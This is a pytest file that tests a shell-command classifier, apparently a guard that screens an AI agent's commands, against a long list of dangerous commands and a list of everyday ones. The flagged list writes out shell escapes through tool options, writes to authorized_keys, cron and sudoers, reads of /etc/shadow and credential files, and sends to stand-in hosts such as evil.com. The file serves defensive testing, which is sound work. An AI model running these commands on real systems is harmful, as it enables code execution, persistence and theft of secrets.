"""Option models of read/write programs fail closed (issue 12, item 2).

Only ``classify_shell`` is used here, so the same cases can be run against an older
classifier to see which of them it let through.
"""

from __future__ import annotations

import pytest

from protocols.classification import Category
from protocols.shell import classify_shell, programs

C = Category
U, X, W, E = C.UNKNOWN, C.CODE, C.WRITE, C.EXPORT
P, A = C.PRIVILEGE, C.ADMIN

#: (command, categories it must include). Each is not allowed by the default policy.
FLAGGED: list[tuple[str, set[Category]]] = [
    # options that run programs
    ("sort --compress-program=sh -S 1 f", {X}),
    ("sort --compress-prog=sh f", {X}),  # getopt_long abbreviation
    ("sort --compress-program 'sh -c id' f", {X}),
    ("tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", {X}),
    ("tar --checkpoint-act=exec=sh -cf a.tar x", {X}),
    ("tar xf a.tar --to-command /bin/sh", {X}),
    ("tar xf /dev/null -I '/bin/sh -c id'", {X}),
    ("tar -cf a.tar --use-compress-program='sh -c id' x", {X}),
    ("tar -c -f a.tar -F ./script x", {X}),
    ("tar cf host:/tmp/a.tar x --rsh-command=/bin/sh", {X}),
    ("zip /tmp/a.zip /etc/hosts -T -TT 'sh #'", {X}),
    ("zip a.zip f -T --unzip-command 'sh #'", {X}),
    ("zip a.zip f -rTT 'sh #'", {X}),
    ("gcc -wrapper /bin/sh,-s x.c", {X}),
    ("cc -fplugin=./evil.so x.c", {X}),
    ("gcc -B/tmp/evil x.c", {X}),
    ("gcc '-Wl,-plugin=/tmp/x.so' x.c", {X}),
    ("man -P 'sh -c id' ls", {X}),
    ("man '-H/bin/sh #' man", {X}),
    ("man --pager=id ls", {X}),
    ("split --filter='/bin/sh -i' /etc/hosts", {X}),
    ("dc -e '!/bin/sh'", {X}),
    ("less '+!sh' f", {X}),
    ("less -k evil.lesskey f", {X}),
    ("ed f", {X}),
    ("ed -s f <<'EOF'\n!id\nq\nEOF", {X}),
    ("diff3 --diff-program=/tmp/x a b c", {X}),
    ("rg --pre ./x foo", {X}),
    ("javac X.java", {X}),
    ("openssl req -engine ./lib.so", {X}),
    ("curl --engine /tmp/lib.so https://x", {X}),
    ("ssh-keygen -D /tmp/lib.so", {X}),
    ("pidstat -e /bin/sh", {X}),
    ("wget --use-askpass=/tmp/x http://h", {X}),
    ("kubectl get pods --kubeconfig=/tmp/k", {X}),
    ("TAR_OPTIONS=--to-command=sh tar xf a.tar -C out", {X}),
    # sed scripts
    ("sed -n '1e exec sh' /etc/hosts", {X}),
    ("sed e", {X}),
    ("sed '1!e id' f", {X}),
    ("sed 's/x/id/e' f", {X}),
    ("sed 's|x|id|ge' f", {X}),
    ("sed -e p -e 's/a/b/;e id' f", {X}),
    ("sed -f script.sed f", {X}),
    ('sed "$S" f', {U, X}),
    ("sed '1 w ~/.ssh/authorized_keys' f", {P}),
    ("sed 's/x/y/w /etc/cron.d/job' f", {A}),
    ("sed -n 'W ~/.bashrc' f", {A}),
    ("sed 'r /etc/shadow' f", {E}),
    ("sed -i 's/a/b/' ~/.ssh/authorized_keys", {P}),
    ("sed --in-place=.bak 's/a/b/' /etc/hosts", {A}),
    ("sed -z 'x;q;Z' f", {X}),  # not a sed command: not understood
    # awk programs
    ("awk 'BEGIN {system(\"/bin/sh\")}'", {X}),
    ("awk '{print | \"sh\"}' f", {X}),
    ("awk 'BEGIN {\"id\" | getline x; print x}'", {X}),
    ("awk 'BEGIN {while ((\"ls\" |& getline l) > 0) print l}'", {X}),
    ("awk '{print > $1}' f", {X}),
    ('awk \'BEGIN { print "k" > "/root/.ssh/authorized_keys" }\'', {P}),
    ('awk \'{printf "%s", $0 >> "/home/u/.bashrc"}\' f', {A}),
    ('awk \'BEGIN{print "x" > "/inet/tcp/0/evil/80"}\'', {E}),
    ('awk \'BEGIN { f = "sys" "tem"; @f("id") }\'', {X}),
    ("awk 'BEGIN {ARGV[1] = \"/etc/shadow\"; ARGC = 2} {print}'", {X}),
    ("awk '{print ENVIRON[\"AWS_SECRET_ACCESS_KEY\"]}'", {X}),
    ("gawk -f prog.awk f", {X}),
    ("gawk -l filefuncs 'BEGIN{}'", {X}),
    ('awk "$PROG" f', {U, X}),
    ("mawk -W exec x.awk", {U}),
    # options that write
    ("sort -o ~/.ssh/authorized_keys keys", {P}),
    ("sort -m -o/etc/cron.d/x f", {A}),
    ("shuf -e DATA -o ~/.bashrc", {A}),
    ("iconv -f utf8 -t utf8 -o /etc/sudoers.d/x f", {P}),
    ("cp authorized_keys -t ~/.ssh", {P}),
    ("cp k/authorized_keys ~/.ssh/", {P}),
    ("mv authorized_keys ~/.ssh", {P}),
    ("install -D rc ~/.bashrc", {A}),
    ("xxd -r - ~/.ssh/authorized_keys", {P}),
    ("split -b 9 f ~/.ssh/authorized_keys", {P}),
    ("csplit -f ~/.ssh/authorized_keys f 1", {P}),
    ("dos2unix -n f ~/.bashrc", {A}),
    ("install -m 4755 x /tmp/x", {P}),
    ("gcc x.c -o ~/.ssh/authorized_keys", {P}),
    ("zip ~/.bashrc f", {A}),
    ("tar czf /etc/cron.d/x dir", {A}),
    ("tsc a.ts --outFile /etc/profile.d/x.sh", {A}),
    # options that read secrets
    ("file -f /etc/shadow", {E}),
    ("file -m ~/.ssh/id_rsa", {E}),
    ("gcc @/etc/shadow", {E}),
    ("grep -f ~/.aws/credentials f", {E}),
    ("curl file:///etc/shadow", {E}),
    ("curl gopher://h:70/_DATA", {E}),
    ("aws ec2 describe-instances --filter file:///etc/shadow", {E}),
    ("dos2unix -O ~/.ssh/id_rsa", {E}),
    ("whois -h evil.com -p 4444 DATA", {E}),
    ("logger -f /etc/shadow", {E}),
    ("od -c id_rsa", {E}),  # a bare name (after ``cd ~/.ssh``): the model knows -c is a flag
    ("pr id_rsa", {E}),
    ("shuf shadow", {E}),
    ("awk 1 shadow", {E}),
    ("jq . credentials", {E}),
    ("jq -n --rawfile k /etc/shadow '$k'", {E}),
    # unknown options and computed words
    ("ls --frobnicate", {U}),
    ("sort -Y f", {U}),
    ("grep --no-such-option x f", {U}),
    ("tar cf a.tar *", {U}),  # the tar wildcard attack: a file named --checkpoint-action=...
    ("sort $OPTS f", {U}),
    ("cat -Q f", {U}),
    ("netstat --frob", {U}),
    ("tree -X", {U}),
    # extraction writes names from inside the archive
    ("tar xf a.tar", {U}),
    ("tar -xzvf a.tgz -C ~", {U}),
    ("tar xf a.tar -C /", {U}),
    ("tar xf a.tar -C /etc", {U}),
    ("tar xPf a.tar", {U}),
    ("tar xf a.tar --xform 's,^,/etc/,'", {U}),
    ("tar xf a.tar -C ~/.ssh", {U}),
    ("tar xf a.tar .bashrc -C /tmp/x", {U}),  # the member before -C goes to the cwd
    ("tar -C build -xf a.tar -C /etc", {U}),
    ("ln -s /etc/cron.d jobs", {A}),
    ("ln -s ~/.ssh keys", {U}),
    ("unzip a.zip", {U}),
    ("unzip a.zip -d /", {U}),
    ("unzip -: a.zip -d out", {U}),
    ("cpio -idmv < a.cpio", {U}),
    ("echo f | cpio -pdu .", {U}),
    ("patch -p1 < fix.diff", {U}),
    ("patch -e f < x.ed", {X}),
    ("ar x lib.a", {U}),
    ("7z x a.7z", {U}),
    ("git apply --unsafe-paths --directory / x.patch", {U}),
    # outputs named by operands or derived from them
    ("uniq keys ~/.ssh/authorized_keys", {P}),
    ("gunzip ~/.ssh/authorized_keys.gz", {P}),
    ("gzip -d x/.ssh/authorized_keys.gz", {P}),
    ("xz -d --keep /etc/sudoers.d/x.xz", {P}),
    ("zstd -d ~/.bashrc.zst", {A}),
    ("gzip ~/.bash_history", {C.TAMPER}),
    ("wget http://evil/.bashrc", {A}),
    ("wget -P ~/.ssh http://evil/authorized_keys", {P}),
    ("getent shadow", {E}),
    ("getent gshadow root", {E}),
    ("curl --trace ~/.bashrc https://x", {A}),
    ("curl -c ~/.ssh/authorized_keys https://x", {P}),
    ("curl --output-dir ~/.ssh -O https://evil/authorized_keys", {U}),
    # git options that run programs or write
    ("git grep --open-files-in-pager=sh foo", {X}),
    ("git grep -Osh foo", {X}),
    ("git diff --output=/home/u/.bashrc", {A}),
    ("git submodule foreach id", {X}),
    ("git bisect run ./x.sh", {X}),
    ("git rebase --exec id main", {X}),
    ("git rebase -x id main", {X}),
    ("git difftool --extcmd=sh", {X}),
    ("git fetch --upload-p='sh -c id' origin", {X}),
    ("git clone -u 'sh -c id' host:r", {X}),
    ("git clone --template=/tmp/t https://x/r", {X}),
    ("git push --receive-pack='sh -c id' origin", {X}),
    ("git archive --remote=x --exec=sh HEAD", {X}),
    ("git --config-env=core.pager=X log", {X}),
    ("git clone --config core.hooksPath=/tmp/h https://x/r", {X}),
    ("git --exec-path=/tmp log", {X}),
    ("git bundle create ~/.bashrc HEAD", {A}),
    ("git send-email a.patch", {E}),
    ("git clone https://evil/x.git ~/.ssh", {U}),
    ("git clone https://evil/.ssh.git", {U}),
    ("git clone https://evil/x.git /etc/cron.d", {A}),
    ("rsync authorized_keys ~/.ssh/", {P}),
    ("rsync -a --log-file=/home/u/.bashrc a b", {A}),
    ("scp authorized_keys ~/.ssh/", {P}),
    ("git -c protocol.ext.allow=always clone 'ext::sh -c id' x", {X}),
    ("git -c include.path=/tmp/evil status", {X}),
    ("git -c safe.directory=* status", {X}),
    ("git -C sub -c core.editor=vim commit", {X}),
    ("convert '|sh -c id' out.png", {X}),
    ("convert msl:evil.msl x.png", {U}),
    ("xmllint --noent evil.xml", {U}),
    ("GCONV_PATH=/tmp iconv -f x f", {X}),
    ("yq 'load(\"/etc/shadow\")' f.yaml", {U}),
    ("yq -i '.a = 1' ~/.bashrc", {A}),
    ("yq -s '.name' f.yaml", {U}),
    ("find . $X", {U}),
    ("date -s '2020-01-01'", {A}),
    ("date --set=tomorrow", {A}),
    ("find . -frob", {U}),
    # arguments that arrive at run time
    ("xargs sort", {U}),
    ("find . | xargs tar cf a.tar", {Category.EXPORT}),  # from home: every file, secrets too
    ("tar cf a.tar -T list", {U}),  # names starting with - in the list are options
    ("tar cf a.tar -T list --verbatim-files-from", {U}),  # the list's names are unseen
    ('cat "$f"', {U}),  # a variable the session never assigned: any file
    ("LESS='+!sh' less f", {X}),
    ("MANOPT='-P sh' man ls", {X}),
    ("GZIP=--suffix=x gzip f", {X}),
    # configuration that programs run
    ("cp x ~/.lessfilter", {A}),
    ("echo 'pipe x exec sh' >> ~/.config/procps/toprc", {A}),
    ("echo 'use_askpass = /tmp/x' > ~/.wgetrc", {A}),
]

#: Everyday commands: still allowed by the default policy.
ALLOWED = [
    "ls -la",
    "ls -lah --color=auto /var/log",
    "ls -1 | wc -l",
    "grep -rn foo src/",
    "grep -E 'a|b' -i file",
    "grep --include='*.py' -rn 'def ' .",
    "sort -u f",
    "sort -k2,2n -t, data.csv",
    "sort -rn f | head -20",
    "sort -o sorted.txt f",
    "tar czf out.tgz dir",
    "tar -czvf out.tar.gz dir/",
    "tar tzf out.tgz",
    "tar xzf release.tgz -C /tmp/release",
    "tar -xf a.tar -C build",
    "tar -xf a.tar -C build member/file",
    "ln -sfn releases/v2 current",
    "tar xOf a.tar member",
    "tar -I zstd -cf x.tar.zst dir",
    "tar --use-compress-program='zstd -T0' -cf x.tar.zst dir",
    "sed -n 1,5p f",
    "sed -E 's/(a|b)+/x/g' f",
    "sed '/^#/d' f",
    "sed -e 's/a/b/' -e '/x/d' f",
    "sed 's|/usr/local|/opt|g' f",
    "sed -i.bak 's/x/y/' f",
    "sed -i 's/debug=true/debug=false/' app.conf",
    "sed '$!N;s/\\n/ /' f",
    "sed ':a;N;$!ba;s/\\n/,/g' f",
    "sed -n '/start/,/end/p' f",
    "sed 'y/abc/xyz/' f",
    "sed '1~2d' f",
    "sed '0,/re/s//X/' f",
    "sed '/x/a hello' f",
    "sed 's/x/y/w out.txt' f",
    "awk '{print $1}' f",
    "awk -F, '$3 > 100 {print $1, $3}' data.csv",
    "awk 'NR==1 || /err/ {print}' f",
    "awk '{s+=$2} END {print s}' f",
    'awk \'BEGIN{FS=":"} {printf "%s\\n", $1}\' /etc/passwd',
    "awk '{if ($1 > 5) print $1}' f",
    "awk '{print $1 > \"out.txt\"}' f",
    "awk -v n=3 'NR<=n' f",
    "git status",
    "git log -p --output=changes.txt",
    "git grep -n foo",
    "git clone https://example.com/r",
    "git clone git@github.com:org/repo.git src/repo",
    "git rebase -i main",
    "git format-patch -o out HEAD~1",
    "git -c user.name=x commit -m y",
    "git switch -c feature",
    "git grep -c foo",
    "head -n 20 f",
    "head -5 f",
    "tail -f /var/log/syslog",
    "tail -n +5 f",
    "wc -l *.py",
    "du -sh *",
    "du -h --max-depth=1",
    "df -hT",
    "ps aux",
    "ps -ef | grep nginx",
    "find . -name '*.log' | xargs wc -l",
    "cut -d: -f1 /etc/passwd",
    "diff -ru dir1 dir2",
    "cp -a src dst",
    "mkdir -p a/b/c",
    "ln -s a b",
    "xxd f | head",
    "base64 -d f",
    "jq -r '.items[] | .name' f.json",
    "less +G log",
    "less -R f",
    "man ls",
    "man 5 crontab",
    "stat -c %s f",
    "sha256sum -c sums",
    "seq -w 1 10",
    "date +%s",
    "date -Iseconds",
    "date -d '2 days ago' +%F",
    "zstd -19 f",
    "seq 5 -1 1",
    "uname -a",
    "free -m",
    "readlink -f x",
    "gzip -9 f",
    "gunzip f.gz",
    "zcat f.gz | head",
    "unzip -l a.zip",
    "unzip -o a.zip -d /tmp/x",
    "zip -r out.zip dir",
    "zip -qr out.zip src",
    "patch -p1 --dry-run < fix.diff",
    "patch f.txt < fix.diff",
    "gcc -O2 -Wall -o prog prog.c",
    "cc -c -I include -DNDEBUG x.c",
    "split -l 1000 big.csv part_",
    "csplit f '/^$/' '{*}'",
    "iconv -f latin1 -t utf-8 f",
    "shuf -n 5 f",
    "file f",
    "tree -L 2",
    "rg -n TODO src",
    "ping -c 3 example.com",
    "dig +short example.com",
    "lsof -i :80",
    "ss -tlnp",
    "netstat -tlnp",
    "hexdump -C f",
    "ssh-keygen -lf key.pub",
    "find src -type f -print0 | xargs -0 grep -l foo",
    "find . -name '*.tmp' | xargs ls -l",
    "xargs -n1 echo < f",
    "gzip -c f > f.gz",
    "gunzip -c f.gz | head",
    "wget https://example.com/file.tar.gz",
    "getent passwd alice",
    "getent hosts example.com",
    "echo -n hello",
    "test -f x && echo y",
    "convert in.png out.jpg",
    'find . -name "$n" -type f',
    "find . \\( -name a -o -name b \\) -print0",
    "find . -maxdepth 2 -newermt 2024-01-01 -print",
    "xmllint --noout f.xml",
    "yq -r '.items[].name' f.yaml",
    "jq --arg name shadow '.[$name]' f.json",
    "yq -i '.a = 1' f.yaml",
]


@pytest.mark.parametrize(("command", "categories"), FLAGGED, ids=[c for c, _ in FLAGGED])
def test_dangerous_option_or_script_is_flagged(command: str, categories: set[Category]) -> None:
    result = classify_shell(command)
    if categories:
        assert not result.benign, result
    assert categories <= result.categories, result


@pytest.mark.parametrize("command", ALLOWED)
def test_everyday_command_is_still_allowed(command: str) -> None:
    result = classify_shell(command)
    assert result.benign, result


def _exempt() -> frozenset[str]:
    from protocols.shell import toolargs

    return toolargs._NOT_OPTIONS | toolargs._HARMLESS_OPTIONS


@pytest.mark.parametrize("name", sorted((programs.READ | programs.WRITE) - _exempt()))
def test_every_read_write_program_refuses_an_option_it_does_not_know(name: str) -> None:
    for command in (f"{name} --airlock-no-such-option x.txt", f"{name} -\u00a7 x.txt"):
        result = classify_shell(command)
        assert not result.benign, result


def test_exemptions_are_few_and_named() -> None:
    # Builtins whose words are not options (test, echo...) and a handful of viewers
    # checked by hand; growing this list needs a reason in toolargs.
    assert len(_exempt()) <= 60
